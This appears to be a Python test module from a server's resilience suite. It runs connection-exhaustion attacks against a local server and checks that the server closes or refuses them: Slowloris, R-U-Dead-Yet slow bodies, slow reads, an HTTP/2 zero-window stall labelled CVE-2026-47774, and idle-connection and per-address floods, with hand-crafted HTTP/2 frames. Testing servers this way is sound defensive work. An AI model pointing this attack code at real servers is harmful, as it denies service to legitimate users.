"""Attacks that hold connections: many of them, or with as little as keeps one open."""

import socket
import ssl
import struct
import time

from attacking import attack
from raw_http2 import *  # noqa: F403  (the names of the protocol)
from raw_http2 import PREFACE, Connection

CONNECTIONS = 200
IDLE_CONNECTIONS = 5000
PER_ADDRESS = 50
# The server's limits, and what its sweeps and a busy machine may add.
HEAD_SECONDS, HANDSHAKE_SECONDS, BODY_SECONDS, SEND_SECONDS, MARGIN_SECONDS = 10, 10, 20, 20, 6
PING_FRAME = b"\0\0\x08\6\0\0\0\0\0" + bytes(8)
NOT_YET = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


def source(number):
    """An address for each so many connections."""
    number //= PER_ADDRESS
    return f"127.1.{number // 250}.{number % 250 + 1}"


def opened(target, count, begin, alpn=("http/1.1",)):
    """So many connections, on each of which `begin` has been sent."""
    sockets = []
    for number in range(count):
        each = target.socket(alpn, source=source(number))
        each.sendall(begin)
        each.setblocking(False)
        sockets.append(each)
        target.sent += 1
        # The first must not be closed for silence while the last is opened.
        if number % 1000 == 999:
            for earlier in sockets:
                earlier.send(PING_FRAME)
    return sockets


def is_open(each):
    """Reads what has come; false once the other side has ended."""
    try:
        while each.recv(65536):
            pass
        return False
    except NOT_YET:
        return True
    except OSError:
        return False


def trickle(target, sockets, seconds, piece):
    """Sends a little to each now and then until the server has closed all, and says whether it did in time."""
    deadline = time.monotonic() + seconds + MARGIN_SECONDS
    left = list(sockets)
    while left and time.monotonic() < deadline:
        for each in left:
            try:
                each.send(piece)
                target.sent += 1
            except OSError:
                pass
        left = [each for each in left if is_open(each)]
        time.sleep(0.5)
    for each in sockets:
        each.close()
    return f"not closed: {len(left)} of {len(sockets)}" if left else "closed"


@attack(attackers=1, is_slow=True)
def slow_heads(target):
    """A head that comes byte by byte (Slowloris)."""
    sockets = opened(target, CONNECTIONS, b"GET /livez HTTP/1.1\r\nHost: localhost\r\nX: ")
    return trickle(target, sockets, HEAD_SECONDS, b"a")


@attack(attackers=1, is_slow=True)
def slow_heads_over_http2(target):
    """A HEADERS frame that comes byte by byte: a request, and a value of 900 bytes."""
    begin = PREFACE + b"\0\0\0\4\0\0\0\0\0" + b"\0\x03\x98\x01\x05\0\0\0\x01"
    begin += b"\x82\x87\x84\x41\x09localhost\x00\x01x\x7f\x85\x06"
    return trickle(target, opened(target, CONNECTIONS, begin, ("h2",)), HEAD_SECONDS, b"a")


@attack(attackers=1, is_slow=True)
def slow_bodies(target):
    """A body that comes byte by byte (R-U-Dead-Yet)."""
    begin = (b"POST /v1/auth/token/refresh HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
             b"Content-Length: 60000\r\n\r\n{")
    return trickle(target, opened(target, CONNECTIONS, begin), BODY_SECONDS, b" ")


@attack(attackers=1, is_slow=True)
def slow_bodies_over_http2(target):
    connections = []
    for number in range(50):
        target.source = source(number)
        connection = Connection(target).greeted()
        connection.headers(1, target.request("POST", path="/v1/auth/token/refresh", extra=[
            ("content-type", "application/json")]), END_HEADERS)
        connections.append(connection)
    target.source = None
    deadline, waiting = time.monotonic() + BODY_SECONDS + MARGIN_SECONDS, connections
    while waiting and time.monotonic() < deadline:
        for connection in waiting:
            connection.frame(DATA, 0, 1, b" " * 300)
        # The stream ends, with an answer or without one; the connection may go on.
        waiting = [connection for connection in waiting if connection.until(
            lambda frame: frame.kind in (HEADERS, RST_STREAM, GOAWAY), 0.01) is None and not connection.is_closed]
        time.sleep(0.5)
    for connection in connections:
        connection.socket.close()
    return f"not closed: {len(waiting)} of {len(connections)}" if waiting else "closed"


def unread(target, count, send):
    """Connections that ask for much and read nothing, until the server has let go of them."""
    sockets = []
    for number in range(count):
        raw = socket.socket()
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.bind((source(number), 0))
        raw.connect((target.host, target.port))
        sockets.append(send(raw))
    is_closed = target.victim.connections_fall_to_baseline(SEND_SECONDS + MARGIN_SECONDS)
    for each in sockets:
        each.close()
    return "closed" if is_closed else "not closed"


@attack(attackers=1, is_slow=True)
def slow_reads(target):
    """Answers that nobody takes, of requests in one write."""
    def send(raw):
        secure = target.context(("http/1.1",)).wrap_socket(raw, server_hostname="localhost")
        secure.sendall(b"GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n" * 200)
        target.sent += 200
        return secure
    return unread(target, 50, send)


@attack(attackers=1, is_slow=True)
def slow_reads_over_http2(target):
    """Answers that nobody takes, with wide windows, so that it is the socket that is full."""
    def send(raw):
        secure = target.context(("h2",)).wrap_socket(raw, server_hostname="localhost")
        frames = PREFACE + b"\0\0\6\4\0\0\0\0\0" + struct.pack(">HI", INITIAL_WINDOW_SIZE, 1 << 24)
        frames += b"\0\0\4\x08\0\0\0\0\0" + struct.pack(">I", 1 << 28)
        block = b"\x82\x87\x04\x0d/openapi.json\x01\x09localhost"
        for stream in range(1, 200, 2):
            frames += struct.pack(">I", len(block))[1:] + b"\x01\x05" + struct.pack(">I", stream) + block
            target.sent += 1
        secure.sendall(frames)
        return secure
    return unread(target, 50, send)


@attack(attackers=1, is_slow=True)
def windows_of_nothing_held(target):
    """CVE-2026-47774: answers that wait for a window, kept as long as the server keeps them."""
    def send(raw):
        secure = target.context(("h2",)).wrap_socket(raw, server_hostname="localhost")
        frames = PREFACE + b"\0\0\6\4\0\0\0\0\0" + struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
        block = b"\x82\x87\x04\x0d/openapi.json\x01\x09localhost"
        for stream in range(1, 200, 2):
            frames += struct.pack(">I", len(block))[1:] + b"\x01\x05" + struct.pack(">I", stream) + block
            target.sent += 1
        secure.sendall(frames)
        return secure

    def is_reset(connection):
        # RST_STREAM of each, or the end.
        secure, resets, data = connection, 0, b""
        secure.settimeout(SEND_SECONDS + MARGIN_SECONDS)
        try:
            while resets < 100:
                received = secure.recv(65536)
                if not received:
                    return True
                data += received
                while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
                    resets += data[3] == RST_STREAM
                    data = data[9 + int.from_bytes(data[:3], "big"):]
            return True
        except OSError:
            return False

    sockets = []
    for number in range(50):
        raw = target.raw_socket(source(number))
        sockets.append(send(raw))
    left = [each for each in sockets if not is_reset(each)]
    for each in sockets:
        each.close()
    return f"not reset: {len(left)} of {len(sockets)}" if left else "closed"


@attack(attackers=1, is_slow=True)
def idle_connections(target):
    """Thousands of connections with TLS that do nothing; they may stay, and everyone else is served."""
    sockets = opened(target, IDLE_CONNECTIONS, PREFACE + b"\0\0\0\4\0\0\0\0\0", ("h2",))
    time.sleep(1)
    held = target.victim.connections - target.victim.baseline
    kept = sum(is_open(each) for each in sockets)
    for each in sockets:
        each.close()
    if kept != IDLE_CONNECTIONS or held != IDLE_CONNECTIONS:
        return f"not held: {kept} kept, {held} counted"
    return f"held {kept}" if target.victim.connections_fall_to_baseline(10) else "not let go"


@attack(attackers=1)
def connections_of_one_address(target):
    """What one address has beyond its share is refused at once."""
    sockets = []
    for _ in range(300):
        raw = target.raw_socket("127.1.9.9")
        raw.setblocking(False)
        sockets.append(raw)
        target.sent += 1
    deadline, left = time.monotonic() + 20, sockets
    while len(left) > 100 and time.monotonic() < deadline:
        time.sleep(0.05)
        left = [raw for raw in left if is_open(raw)]
    # Its share stays.
    time.sleep(0.5)
    refused = len(sockets) - sum(is_open(raw) for raw in left)
    for raw in sockets:
        raw.close()
    return "closed" if 200 <= refused < 300 else f"not refused: {refused} of 300"
